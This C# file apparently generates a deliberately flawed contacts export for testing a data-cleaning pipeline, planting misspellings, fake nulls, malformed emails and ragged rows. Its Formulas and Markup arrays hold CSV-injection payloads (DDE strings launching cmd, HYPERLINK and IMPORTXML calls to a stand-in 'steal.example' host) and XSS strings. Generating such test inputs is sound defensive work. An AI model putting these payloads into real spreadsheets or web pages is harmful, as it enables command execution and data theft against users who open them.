namespace Segmentation.Samples;

/// <summary>Spoils the contacts export, and counts what it does.</summary>
internal static class ContactDefects
{
    private static readonly string[] Formulas =
        ["=HYPERLINK(\"http://steal.example/\",\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+SUM(A1:A3)", "=1+2\";=1+2", "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(\"http://steal.example\",\"//a\")"];

    private static readonly string[] Markup = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>CEO</b>", "</td></tr></table><h1>gone"];

    /// <summary>Spoils the sheet and returns the raw lines to put into the file.</summary>
    public static Dictionary<int, string> Plant(SamplePlan plan, Sheet sheet, Ledger ledger)
    {
        var random = new Pcg32(plan.Seed, 8);
        AccountDefects.Misspell(random, sheet, "contacts.csv", ContactColumns.Department, Picklists.Department, ledger);
        foreach (var (column, token, count) in Picklists.ContactNulls)
        {
            foreach (var row in sheet.Choose(random, count, column)) sheet.Spoil(row, column, token);
            ledger.Add($"contacts/disguised-nulls/{column}/{token}", count);
        }

        foreach (var (values, name) in new[] { (Formulas, "formula-like"), (Markup, "markup") })
        {
            var rows = sheet.Choose(random, values.Length, ContactColumns.Title);
            for (var i = 0; i < values.Length; i++) sheet.Spoil(rows[i], ContactColumns.Title, values[i]);
            ledger.Add($"contacts/{name}", values.Length);
        }

        foreach (var row in sheet.Choose(random, plan.FreeMailWithAccount, ContactColumns.Email))
        {
            var (first, last) = (Person.Ascii(sheet[row, ContactColumns.First]), Person.Ascii(sheet[row, ContactColumns.Last]));
            sheet.Spoil(row, ContactColumns.Email, $"{first}-{last}-{Format.Whole(row)}@{random.Pick(ContactsExport.FreeMail)}");
        }

        ledger.Add("contacts/free-mail-with-account", plan.FreeMailWithAccount);
        foreach (var row in sheet.Choose(random, plan.MalformedEmails, ContactColumns.Email)) sheet.Spoil(row, ContactColumns.Email, Malform(random, sheet[row, ContactColumns.Email]));
        ledger.Add("contacts/malformed-emails", plan.MalformedEmails);
        foreach (var row in sheet.Choose(random, 470, ContactColumns.Email))
        {
            sheet[row, ContactColumns.Bounce] = random.Pick(["UNKNOWN_USER", "MAILBOX_FULL", "POLICY", "OTHER"]);
            sheet.Protect(row, ContactColumns.Email);
        }

        ledger.Add("contacts/bounced", 470);
        foreach (var row in sheet.Choose(random, plan.FutureActivity, ContactColumns.Activity)) sheet.Spoil(row, ContactColumns.Activity, Format.German(plan.AsOf.AddDays(random.Between(40, 900))));
        ledger.Add("contacts/future-activity", plan.FutureActivity);
        ledger.Add("contacts/ragged-rows", 8);
        return new Dictionary<int, string>
        {
            [97] = "60100000001;Sam;Overfull;sam.overfull@ragged.example;Head of Sales; Marketing; and Service;;Sales;;;Lead;Referrals;12,0;FALSE;;01/02/2024;03.02.2024",
            [1204] = "60100000002;Cut;Off",
            [2750] = "60100000003;Kim;Overfull;kim.overfull@ragged.example;Buyer;;;;;Lead;Referrals;12,0;FALSE;;15/02/2024;16.02.2024;;",
            [4021] = "60100000004;Pat;Short;pat.short@ragged.example;Buyer",
            [6333] = "60100000005",
            [8208] = "60100000006;Lou;Overfull;lou.overfull@ragged.example;CFO; acting;;Finance;;;Lead;Referrals;;FALSE;;21/02/2024;22.02.2024",
            [9999] = "60100000007;Jo;Short;jo.short@ragged.example;Analyst;;Finance;;;Lead",
            [11500] = "60100000008;Max;Overfull;max.overfull@ragged.example;CTO; CIO;;IT;;;Lead;Referrals;;FALSE;;23/02/2024;24.02.2024",
        };
    }

    private static string Malform(Pcg32 random, string email) => random.Below(6) switch
    {
        0 => email.Replace("@", string.Empty, StringComparison.Ordinal),
        1 => email.Replace("@", "@@", StringComparison.Ordinal),
        2 => email[..(email.IndexOf('@') + 1)],
        3 => email.Replace(".example", string.Empty, StringComparison.Ordinal).Replace(".com", string.Empty, StringComparison.Ordinal),
        4 => email.Replace(".", " ", StringComparison.Ordinal),
        _ => email.Replace("@", " at ", StringComparison.Ordinal),
    };
}
